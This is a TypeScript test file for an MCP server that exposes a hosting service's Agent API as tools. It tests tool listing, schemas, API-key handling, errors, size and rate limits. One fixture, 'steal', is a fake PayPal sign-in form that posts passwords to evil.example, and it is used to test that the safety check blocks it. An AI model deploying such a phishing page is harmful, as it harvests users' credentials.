import { afterAll, describe, expect, test } from 'bun:test'

import { Ajv2020 } from 'ajv/dist/2020.js'

import type { HostingErrorName } from '../../kernel/errors.ts'
import { operationBuilder } from '../../kernel/http/operation.ts'
import { nothing } from '../../kernel/http/outcome.ts'
import { anyone } from '../../people/authentication.ts'
import type { DescribedOperation } from '../../site/guide/read-description.ts'
import { callTool, listTools, post, send } from '../../testing/fixtures/mcp-server.ts'
import { startTestServer } from '../../testing/fixtures/test-server.ts'
import { getDocument, listOperations } from '../../testing/openapi/document.ts'
import { agentOperations } from '../agent-api.ts'
import { toolsOf } from './tools.ts'
import { listTools as listShownTools } from './toolset.ts'

const t = await startTestServer()
const ann = await t.agent('ann')
const tools = await listTools(t)
afterAll(() => t.close())

const page = '<!doctype html><title>Tide</title><h1>Tide</h1>'

describe('the list', () => {
  test('has names and summaries of the description, at most 36 tools, in a stable order', async () => {
    const summaries = new Map(
      listOperations(await getDocument(t)).map(({ operationId, summary }) => [
        operationId,
        summary,
      ]),
    )
    for (const { useTool } of agentOperations)
      if (useTool) summaries.set(useTool.name, useTool.summary)
    for (const { name, description } of tools) {
      expect(description).toStartWith(summaries.get(name) ?? 'not of the description')
    }
    expect(tools.length).toBeLessThanOrEqual(36)
    expect(await listTools(t)).toEqual(tools)
    const names = tools.map(({ name }) => name)
    expect(new Set(names).size).toBe(names.length)
    for (const file of ['export_app', 'get_asset', 'look_at_asset', 'watch_job', 'get_openapi']) {
      expect(names).not.toContain(file)
    }
  })

  test('has a core of 11 tools', async () => {
    const names = (await listTools(t, '?tools=core')).map(({ name }) => name)
    expect(names).toEqual([
      'start',
      'new_agent',
      'get_me',
      'publish_app',
      'get_job',
      'publish_version',
      'get_html',
      'change_app',
      'get_app',
      'list_apps',
      'explore',
    ])
    expect(tools.slice(0, 11).map(({ name }) => name)).toEqual(names)
  })

  test('has a tool for builds alone, which takes no page and needs a prompt', () => {
    const tool = tools.find(({ name }) => name === 'build_app')
    const { properties = {}, required } = tool?.inputSchema ?? {}
    expect(required).toEqual(['prompt'])
    expect(Object.keys(Object(properties))).toEqual(
      expect.arrayContaining(['prompt', 'title', 'kind', 'maxCredits', 'ref', 'key']),
    )
    for (const field of ['html', 'files', 'uses']) expect(properties).not.toHaveProperty(field)
    expect(tool?.outputSchema).toEqual(
      tools.find(({ name }) => name === 'publish_app')?.outputSchema,
    )
  })

  test('has every numbered operation of document 1 except the description', () => {
    const names = tools.map(({ name }) => name)
    expect(names).toEqual(
      expect.arrayContaining([
        'is_on',
        'start',
        'new_agent',
        'get_me',
        'change_me',
        'new_claim',
        'list_apps',
        'publish_app',
        'get_app',
        'change_app',
        'remix_app',
        'put_icon',
        'delete_icon',
        'list_assets',
        'make_assets',
      ]),
    )
  })

  test('lists one area, or all tools for an unknown area', async () => {
    const names = (await listTools(t, '?tools=assets')).map(({ name }) => name)
    expect(names).toContain('put_asset')
    expect(names).not.toContain('get_me')
    expect(await listTools(t, '?tools=nothing')).toEqual(tools)
  })

  test('has all operations of agents except streams and files, as the docs say', async () => {
    const operations = listOperations(await getDocument(t))
    const areas = new Set(operations.map(({ tags }) => String(tags[0]).toLowerCase()))
    const lists = [...areas].map((area) => listTools(t, `?tools=${area.replaceAll(' ', '-')}`))
    const named = new Set((await Promise.all(lists)).flat().map(({ name }) => name))
    const others = operations.filter(
      ({ operationId, security, tags }) =>
        !named.has(operationId) &&
        operationId !== 'get_openapi' &&
        security.every((way) => !('session' in way)) &&
        // The viewer calls the others for the page that it shows.
        !['Sign-in', 'Playing'].includes(String(tags[0])),
    )
    expect(others.length).toBeGreaterThan(5)
    for (const { operationId, responses } of others) {
      expect([operationId, responses['200']?.content['application/json']]).toEqual([
        operationId,
        undefined,
      ])
    }
    const docs = await t.request('GET', '/docs/mcp', { headers: { accept: 'text/html' } })
    for (const { body } of [docs, await t.call('GET', '/')]) {
      const text = typeof body === 'string' ? body : JSON.stringify(body)
      expect(text).toContain('except those that return a stream or a file')
    }
  })

  test('describes the effects of a tool', () => {
    const hints = Object.fromEntries(tools.map(({ name, annotations }) => [name, annotations]))
    const [no, yes] = [false, true]
    const of = (readOnlyHint: boolean, destructiveHint: boolean, idempotentHint: boolean) => ({
      readOnlyHint,
      destructiveHint,
      idempotentHint,
    })
    expect(hints).toMatchObject({
      get_app: of(yes, no, yes),
      publish_app: of(no, no, no),
      change_app: of(no, yes, yes),
      delete_app: of(no, yes, yes),
    })
  })

  test('has self-contained object schemas', () => {
    const ajv = new Ajv2020({ strict: false, validateFormats: false })
    for (const { name, inputSchema, outputSchema } of tools) {
      for (const schema of [inputSchema, outputSchema]) {
        expect([name, schema['type']]).toEqual([name, 'object'])
        expect(() => ajv.compile(schema)).not.toThrow()
        expect(JSON.stringify(schema)).not.toContain('#/components')
      }
      expect(inputSchema).toMatchObject({
        properties: { key: { type: 'string' } },
        additionalProperties: false,
      })
    }
  })
})

test('of 100 operations, 36 are listed, with some of each area', () => {
  const operations = Array.from({ length: 100 }, (_, at): DescribedOperation => ({
    operationId: at === 99 ? 'start' : `do_${at}`,
    summary: 'Do.',
    method: 'GET',
    path: `/${at}`,
    tags: [`Area ${at % 7}`],
    security: [],
    responses: {},
  }))
  const declared = operations.map(({ operationId: id, tags: [tag = ''] }) =>
    operationBuilder<HostingErrorName>(tag, () => ({}))({
      id,
      route: 'GET /',
      summary: 'Do.',
      access: anyone,
      output: {},
      run: nothing,
      ...(id === 'start' && { mcp: 1 }),
    }),
  )
  const shown = listShownTools(toolsOf({ operations, records: {} }, declared), null)
  expect(shown).toHaveLength(36)
  expect(shown[0]?.definition.name).toBe('start')
  const areas = Map.groupBy(shown, ({ operation }) => operation.tag)
  expect([...areas.values()].map(({ length }) => length).every((many) => many >= 4)).toBe(true)
})

describe('a call', () => {
  test('is a request to the Agent API, with the same response as structure and text', async () => {
    const id = await ann.publish({ html: page })
    for (const [name, path] of [
      ['get_app', `/apps/${id}`],
      ['list_versions', `/apps/${id}/versions`],
    ] as const) {
      const { body } = await ann.call('GET', path)
      const { structuredContent, content, isError } = await callTool(t, name, {
        id,
        key: ann.key,
      })
      expect(structuredContent).toEqual(Object(body))
      expect(JSON.parse(content[0]?.text ?? '')).toEqual(body)
      expect(isError).toBeUndefined()
    }
    const { structuredContent, content } = await callTool(t, 'get_html', { id, key: ann.key })
    expect(structuredContent).toEqual({ html: page })
    expect(content).toEqual([{ type: 'text', text: page }])
  })

  test('returns what its output schema describes', async () => {
    const ajv = new Ajv2020({ strict: false, validateFormats: false })
    const id = await ann.publish({ html: page })
    const args = { id, key: ann.key, html: page }
    for (const { name, inputSchema, outputSchema, annotations } of tools) {
      const properties = Object.keys(Object(inputSchema['properties']))
      const required = [inputSchema['required']].flat()
      const known = Object.entries(args).filter(([field]) => properties.includes(field))
      if (!annotations['readOnlyHint'] && name !== 'publish_version') continue
      if (!required.every((field) => known.some(([own]) => own === field))) continue
      const { structuredContent } = await callTool(t, name, Object.fromEntries(known))
      const validate = ajv.compile(outputSchema)
      expect([name, validate(structuredContent), validate.errors]).toEqual([name, true, null])
    }
  })

  test('reads its key from the argument, then the header, and nowhere else', async () => {
    const me = async (...[args, message]: [unknown?, Parameters<typeof send>[3]?]) => {
      const { structuredContent } = await callTool(t, 'get_me', args, message)
      return structuredContent['handle'] ?? structuredContent['code']
    }
    const ben = await t.agent('ben')
    expect(await me({ key: ann.key })).toBe(ann.handle)
    expect(await me({}, { key: ann.key })).toBe(ann.handle)
    expect(await me({}, { headers: { 'x-api-key': ann.key } })).toBe(ann.handle)
    expect(await me({ key: ben.key }, { key: ann.key })).toBe(ben.handle)
    expect(await me({}, { query: `?key=${ann.key}` })).toBe('no_key')
    expect(await me({}, { headers: { key: ann.key, cookie: `key=${ann.key}` } })).toBe('no_key')
    expect(await me({ key: '' })).toBe('no_key')
    expect(await me({ key: 'ak_no' })).toBe('bad_key')
  })

  test('accepts a flag as a boolean', async () => {
    for (const unread of [true, false]) {
      const { structuredContent } = await callTool(t, 'list_notes', { unread, key: ann.key })
      expect(structuredContent).toMatchObject({ notes: [], next: null })
    }
  })

  test('returns the errors of the Agent API', async () => {
    const id = await ann.publish({ html: page })
    const cases = [
      ['get_app', { id: 'AAAAAAAAAAAA' }, 'GET', '/apps/AAAAAAAAAAAA'],
      ['new_agent', { handle: 'admin' }, 'POST', '/keys', { handle: 'admin' }],
      ['new_agent', { handle: ann.handle }, 'POST', '/keys', { handle: ann.handle }],
      ['publish_app', {}, 'POST', '/apps', {}],
      ['publish_app', { html: steal }, 'POST', '/apps', { html: steal }],
      ['change_app', { id, title: '' }, 'PATCH', `/apps/${id}`, { title: '' }],
    ] as const
    for (const [name, args, method, path, body] of cases) {
      const rest = await ann.call(method, path, body)
      const { isError, structuredContent } = await callTool(t, name, args, { key: ann.key })
      expect([name, isError, structuredContent['code']]).toEqual([name, true, rest.code ?? ''])
      if (rest.code !== 'bad_request') expect(structuredContent).toEqual(Object(rest.body))
    }
  })

  test('publishes a page of the maximum size, and a larger one fails', async () => {
    const filler = (bytes: number) => page + ' '.repeat(bytes - page.length)
    const publish = (html: string) => callTool(t, 'publish_app', { html, key: ann.key })
    expect((await publish(filler(4 * 1_048_576))).isError).toBeUndefined()
    expect((await publish(filler(4 * 1_048_576 + 1))).structuredContent['code']).toBe('too_large')
  })

  test('counts against the rate limit of its address', async () => {
    const busy = await startTestServer({ REQUESTS_PER_MINUTE: '3' })
    const codes: unknown[] = []
    for (let call = 0; call < 4; call += 1) {
      codes.push((await callTool(busy, 'is_on')).structuredContent['code'])
    }
    expect(codes).toEqual([undefined, undefined, undefined, 'rate_limited'])
    expect((await busy.call('GET', '/on')).code).toBe('rate_limited')
    await busy.close()
  })
})

/** A page that the safety check blocks. */
const steal =
  '<!doctype html><title>PayPal</title><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form>'

test('both protocol eras work at one URL', async () => {
  const { message } = await post(t, {
    jsonrpc: '2.0',
    id: 1,
    method: 'initialize',
    params: {
      protocolVersion: '2024-11-05',
      capabilities: {},
      clientInfo: { name: 'old', version: '1' },
    },
  })
  expect(message).toMatchObject({
    result: { protocolVersion: '2024-11-05', serverInfo: { name: 'berth' } },
  })
  const { body } = await send(t, 'server/discover')
  expect(body).toMatchObject({
    result: { supportedVersions: ['2026-07-28'], instructions: expect.stringContaining('start') },
  })
})

test('MCP is off where the Agent API is off', async () => {
  const closed = await startTestServer({ AGENTS_ON: 'off' })
  const { status, code } = await send(closed, 'tools/list')
  expect([status, code]).toEqual([404, 'agents_off'])
  await closed.close()
})
